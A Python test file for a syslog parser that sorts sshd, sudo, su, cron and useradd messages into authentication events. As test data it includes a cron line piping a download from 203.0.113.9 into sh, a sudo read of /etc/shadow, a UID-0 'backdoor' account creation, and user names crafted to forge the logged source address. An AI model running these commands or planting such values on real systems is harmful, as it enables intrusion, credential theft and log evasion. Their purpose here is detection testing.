"""Authentication messages: who, from where, with what outcome. One line per form that servers really write."""

from __future__ import annotations

import pytest
from log_reading import event

SSHD = "Nov 23 10:04:05 web1 sshd[812]: "
CASES = [
    # message, action, outcome, user, address, port
    ("Accepted password for root from 192.0.2.7 port 50122 ssh2", "login", "success", "root", "192.0.2.7", 50122),
    ("Accepted publickey for an from 2001:db8::5 port 22 ssh2: ED25519 SHA256:abc", "login", "success", "an", "2001:db8::5", 22),
    ("Failed password for root from 192.0.2.7 port 50122 ssh2", "login", "failure", "root", "192.0.2.7", 50122),
    ("Failed password for invalid user admin from ::ffff:192.0.2.7 port 1 ssh2", "login", "failure", "admin", "192.0.2.7", 1),
    ("error: maximum authentication attempts exceeded for invalid user x from 192.0.2.7 port 3 ssh2 [preauth]",
     "login", "failure", "x", "192.0.2.7", 3),
    ("Invalid user  from 192.0.2.7 port 40", "login", "failure", "", "192.0.2.7", 40),
    ("Invalid user oracle from 192.0.2.7", "login", "failure", "oracle", "192.0.2.7", 0),
    ("User bob from 192.0.2.7 not allowed because not listed in AllowUsers", "login", "failure", "bob", "192.0.2.7", 0),
    ("Connection closed by authenticating user root 192.0.2.7 port 9 [preauth]", "disconnect", "failure", "root", "192.0.2.7", 9),
    ("Connection closed by 192.0.2.7 port 9 [preauth]", "disconnect", "", "", "192.0.2.7", 9),
    ("Disconnected from user an 192.0.2.7 port 9", "disconnect", "", "an", "192.0.2.7", 9),
    ("Received disconnect from 192.0.2.7 port 9:11: Bye Bye [preauth]", "disconnect", "", "", "192.0.2.7", 9),
    ("Did not receive identification string from 192.0.2.7 port 9", "connect", "failure", "", "192.0.2.7", 9),
    ("Connection from 192.0.2.7 port 9 on 192.0.2.1 port 22 rdomain \"\"", "connect", "", "", "192.0.2.7", 9),
    ("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.7  user=root",
     "authentication", "failure", "root", "192.0.2.7", 0),
    ("pam_unix(sshd:session): session opened for user an(uid=1000) by (uid=0)", "session", "success", "an", "", 0),
    ("message repeated 3 times: [ Failed password for root from 192.0.2.7 port 5 ssh2]", "login", "failure", "root",
     "192.0.2.7", 5),
]  # fmt: skip


@pytest.mark.parametrize(("message", "action", "outcome", "user", "address", "port"), CASES)
def test_sshd(message: str, action: str, outcome: str, user: str, address: str, port: int) -> None:
    found = event("syslog", SSHD + message)
    assert (found.category, found.service, found.host) == ("authentication", "sshd", "web1")
    assert (found.action, found.outcome, found.user, found.src_ip, found.src_port) == (
        action,
        outcome,
        user,
        address,
        port,
    )
    assert found.fields["message"] == message
    assert found.fields["pid"] == 812


@pytest.mark.parametrize(
    "user",
    [
        "x from 203.0.113.9 port 22 ssh2",
        "root from 203.0.113.9 port 1",
        "a: b from 203.0.113.9 port 5 ssh2: x",
        " from ",
    ],
)
def test_a_user_name_cannot_forge_the_address(user: str) -> None:
    for message in (
        f"Failed password for invalid user {user} from 192.0.2.7 port 50122 ssh2",
        f"Invalid user {user} from 192.0.2.7 port 50122",
        f"Connection closed by invalid user {user} 192.0.2.7 port 50122 [preauth]",
        f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser=rhost=1 rhost=192.0.2.7  user={user}",
        f"maximum authentication attempts exceeded for invalid user {user} from 192.0.2.7 port 50122 ssh2 [preauth]",
    ):
        assert event("syslog", SSHD + message).src_ip == "192.0.2.7", message


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("sudo:     an : TTY=pts/4 ; PWD=/home/an ; USER=root ; COMMAND=/bin/cat /etc/shadow", ("command", "success", "an")),
        ("sudo:     an : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
         ("command", "failure", "an")),
        ("sudo:  an : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls", ("command", "failure", "an")),
        ("su[9]: (to root) an on pts/1", ("switch-user", "success", "an")),
        ("su[9]: FAILED SU (to root) an on pts/1", ("switch-user", "failure", "an")),
        ("su: BAD SU an to root on /dev/ttyp0", ("switch-user", "failure", "an")),
        ("su: pam_unix(su:auth): authentication failure; logname=an uid=1000 euid=0 tty=pts/0 ruser=an rhost=  user=root",
         ("authentication", "failure", "root")),
        ("su(pam_unix)[23164]: authentication failure; logname= uid=1342 euid=0 tty= ruser=an rhost=  user=root",
         ("authentication", "failure", "root")),
        ("vsftpd: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=web rhost=192.0.2.7",
         ("login", "failure", "")),
        ("systemd-logind[700]: New session 12 of user an.", ("session", "success", "an")),
        ("useradd[5]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash", ("account-create", "success", "")),
        ("CRON[5]: (root) CMD (curl http://203.0.113.9/x | sh)", ("command", "success", "root")),
        ("login[7]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure", ("login", "failure", "root")),
    ],
)  # fmt: skip
def test_other_programs(line: str, expected: tuple[str, str, str]) -> None:
    found = event("syslog", "Nov 23 10:04:05 web1 " + line)
    assert (found.category, found.action, found.outcome, found.user) == ("authentication", *expected)


def test_an_unknown_program_stays_a_plain_event() -> None:
    found = event("syslog", "Nov 23 10:04:05 web1 ourdaemon[3]: client 192.0.2.7#53: query: a.example IN A")
    assert (found.service, found.category, found.action) == ("ourdaemon", "", "")
    assert found.raw.endswith("IN A")


def test_repeats_are_counted_not_lost() -> None:
    assert event("syslog", SSHD + CASES[-1][0]).fields["repeated"] == 3
